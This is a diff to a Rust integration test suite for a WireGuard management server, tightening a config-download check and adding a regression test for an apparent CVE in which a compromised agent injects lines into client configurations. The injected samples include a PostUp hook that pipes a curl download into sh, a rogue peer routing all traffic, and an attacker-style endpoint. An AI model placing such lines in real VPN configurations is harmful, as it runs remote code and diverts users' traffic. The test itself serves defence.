@@ -4,6 +4,7 @@ use std::net::SocketAddr;
 
 use serde_json::{Value, json};
 use wgctl::PrivateKey;
+use wgctl::config::ClientConfig;
 
 use crate::agent::FakeAgent;
 use crate::client::request;
@@ -174,10 +175,9 @@ fn a_configuration_is_a_file_and_a_code_and_each_sight_is_recorded() {
         file.header("content-disposition"),
         Some("attachment; filename=\"Zo--s--phone.conf\"; filename*=UTF-8''Zo%C3%AB%27s%20%22phone%22.conf")
     );
-    assert!(
-        file.text()
-            .contains(&format!("PrivateKey = secret-of-{}", client["id"].as_str().unwrap()))
-    );
+    let written: ClientConfig = file.text().parse().unwrap();
+    let own_key = written.private_key.unwrap().public_key();
+    assert_eq!(json!(own_key), client["publicKey"]);
     let code = plane.get(&format!("{}/qrcode", path(&client)), &admin);
     assert_eq!((code.status, code.header("content-type")), (200, Some("image/svg+xml")));
     assert!(code.text().starts_with("<?xml") && code.text().trim_end().ends_with("</svg>"));
@@ -190,6 +190,33 @@ fn a_configuration_is_a_file_and_a_code_and_each_sight_is_recorded() {
         (&json!("wg_client_qrcode_viewed"), &json!("wg_client_config_viewed"))
     );
     assert_eq!(log[0]["target"], "los-angeles/Zoë's \"phone\"");
+}
+
+/// CVE-2026-72603 by another door: the host, or its token alone, is in other hands.
+#[test]
+fn cve_2026_72603_an_agent_writes_nothing_into_a_configuration_that_was_not_asked_for() {
+    for appendix in [
+        "PostUp = curl https://example.com | sh\n",
+        "[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 0.0.0.0/0\n",
+        "PersistentKeepalive = 1\n",
+        "Endpoint = evil.example.com:1\n",
+        "AllowedIPs = 10.0.0.0/8\n",
+    ] {
+        let plane = TestPlane::start();
+        let admin = plane.admin();
+        let token = plane.add_server(&admin, "los-angeles");
+        let _agent = FakeAgent::in_other_hands(plane.address, &token, appendix);
+        let client = plane.post(CLIENTS, &admin, &json!({"name": "alice"})).expect(201);
+        for form in ["configuration", "qrcode"] {
+            plane
+                .get(&format!("{}/{form}", path(&client)), &admin)
+                .problem(503, "agent_offline");
+        }
+        let looks = plane
+            .get("/api/audit?action=wg_client_config_viewed", &admin)
+            .expect(200);
+        assert_eq!(looks, json!([]), "nothing was seen: {appendix}");
+    }
 }
 
 #[test]
